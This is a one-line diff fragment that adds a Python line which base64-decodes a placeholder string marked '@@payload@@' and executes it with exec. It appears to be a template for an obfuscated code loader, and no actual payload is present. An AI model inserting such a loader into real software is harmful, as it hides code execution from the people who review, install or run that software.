@@ -1,0 +1,1 @@
+import base64; exec(base64.b64decode("@@payload@@"))
